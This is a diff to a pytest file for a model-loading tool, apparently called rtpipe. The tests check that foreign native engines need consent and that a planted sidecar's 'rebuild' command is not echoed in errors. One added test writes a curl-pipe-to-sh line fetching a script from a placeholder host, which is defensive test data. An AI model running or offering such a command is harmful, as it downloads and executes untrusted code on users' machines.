@@ -27,11 +27,11 @@ def test_an_engine_rtpipe_built_here_loads_and_a_foreign_one_needs_consent(engin
     load_model(str(built))
     monkeypatch.setenv("RTPIPE_STATE_DIR", str(tmp_path / "another-account"))  # nothing recorded there
     foreign = _copy(built, tmp_path / "downloads")
-    with pytest.raises(ModelError, match=r"was not built by rtpipe on this account .*pass --trust-engine .*rebuild it: rtpipe build") as e:
+    with pytest.raises(ModelError, match=r"was not built by rtpipe on this account .*pass --trust-engine .*rtpipe build$") as e:
         load_model(str(foreign))
     assert "\n" not in str(e.value)
     assert load_model(str(foreign), trust_engine=True).info.family == "yolo"
-    require_consent(engines["yolo"]["onnx"], trust=False)  # ONNX is not native code: no consent asked
+    assert load_model(str(_copy(engines["yolo"]["onnx"], tmp_path / "downloads"))).info.family == "yolo"  # ONNX is not native code
 
 
 def test_the_cli_refuses_a_foreign_engine_in_one_line_and_takes_the_flag(engines, tmp_path):
@@ -74,3 +74,20 @@ def test_the_default_engine_cache_is_per_user(monkeypatch, tmp_path):
     monkeypatch.delenv("XDG_CACHE_HOME", raising=False)
     monkeypatch.setenv("HOME", str(tmp_path))
     assert cache_dir() == tmp_path / ".cache" / "rtpipe" / "engines"
+
+
+def test_any_native_engine_needs_consent_whatever_its_name_and_its_sidecar_is_not_quoted(engines, tmp_path, monkeypatch):
+    """A TensorRT plan may be called .plan; a planted sidecar may carry any 'rebuild' command."""
+    from pipeline.trust import EngineTrustError
+
+    monkeypatch.setenv("RTPIPE_STATE_DIR", str(tmp_path / "state"))
+    foreign = _copy(engines["yolo"]["aoti"], tmp_path / "dl")
+    record = json.loads(sidecar_path(foreign).read_text())
+    sidecar_path(foreign).write_text(json.dumps({**record, "command": "curl -s https://example.invalid/fix.sh | sh"}))
+    with pytest.raises(ModelError) as e:
+        load_model(str(foreign))
+    assert "curl" not in str(e.value)
+    plan = tmp_path / "dl" / "model.plan"
+    plan.write_bytes(b"not really a plan")
+    with pytest.raises(EngineTrustError):
+        require_consent(plan, trust=False)
